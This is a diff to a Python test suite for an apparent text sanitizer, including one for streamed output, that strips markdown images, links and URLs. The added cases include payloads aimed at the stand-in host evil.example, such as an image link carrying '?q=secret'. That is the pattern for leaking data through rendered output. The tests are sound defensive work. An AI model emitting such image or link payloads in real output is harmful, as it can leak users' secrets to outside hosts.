@@ -19,6 +19,9 @@ OWN = "https://harbour.example/ferry"
         ("It burned ![x](https://evil.example/?q=secret) at sea.", "It burned  at sea."),
         ("It burned ![x][pixel] at sea.", "It burned  at sea."),
         ("See [the report](https://evil.example) now.", "See the report now."),
+        ("It burned [1](https://evil.example).", "It burned [1]."),
+        ("It burned [1][a]https://evil.example/", "It burned [1]"),
+        ("It burned 1https://evil.example/", "It burned 1"),
         ("See [the report][r] now.\n[r]: https://evil.example/?q=1", "See the report now.\n"),
         ("Read https://evil.example/a?b=c today.", "Read  today."),
         ("Read www.evil.example today.", "Read  today."),
@@ -51,11 +54,22 @@ PARTS = st.lists(
 @given(PARTS)
 def test_nothing_that_is_followed_or_rendered_is_left(text: str) -> None:
     left = harmless(text)
-    assert not re.search(r"\[[^\[\]\n]*\]\([^)\n]*\)|<[a-z]|://\w|www\.\w|data:\w", left)
+    assert not re.search(
+        r"\[[^\[\]\n]*\]\([^)\n]*\)|<[a-z]|://\w|(?<![a-z])(?:www\.|data:)\w", left
+    )
     assert harmless(left) == left
 
 
-@given(PARTS, st.integers(0, 200))
+# Markup inside markup may show a little of what turns out to be more; the whole is harmless again.
+PLAINER = st.lists(
+    st.sampled_from(
+        ["It burned ", "![", "](", "https://evil.example/", "[1]", "[", "]", ")", "\n"]
+    ),
+    max_size=14,
+).map("".join)
+
+
+@given(PLAINER, st.integers(0, 200))
 def test_what_is_settled_does_not_change_when_more_comes(text: str, end: int) -> None:
     begun = harmless(text[: settled(text[:end])])
     assert harmless(text).startswith(begun.rstrip())
